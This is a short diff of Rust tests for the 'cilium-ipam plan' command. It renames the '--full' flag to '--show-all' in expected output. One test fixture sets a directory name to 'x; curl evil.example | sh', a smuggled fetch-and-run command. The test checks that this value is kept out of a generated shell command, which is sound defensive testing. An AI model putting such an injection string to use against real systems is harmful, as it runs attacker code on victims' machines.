@@ -72,7 +72,7 @@ fn a_plan_of_5000_nodes_with_300_refusals_fits_and_begins_with_the_worst() {
     assert!(places.is_sorted(), "{places:?} in {page}");
     assert!(!page.contains("--expect-digest"), "{page}");
     assert!(
-        page.contains("`cilium-ipam plan clusters/prod/pools --full`"),
+        page.contains("`cilium-ipam plan clusters/prod/pools --show-all`"),
         "{page}"
     );
 }
@@ -251,7 +251,7 @@ fn a_directory_that_is_no_word_of_a_shell_is_not_in_a_command() {
     let mut plan = plan();
     plan.source.directory = "x; curl evil.example | sh".to_owned();
     let page = comment(&plan, &AROUND);
-    assert!(page.contains("`cilium-ipam plan DIR --full`"), "{page}");
+    assert!(page.contains("`cilium-ipam plan DIR --show-all`"), "{page}");
     assert!(!page.contains("plan x;"), "{page}");
 }
 
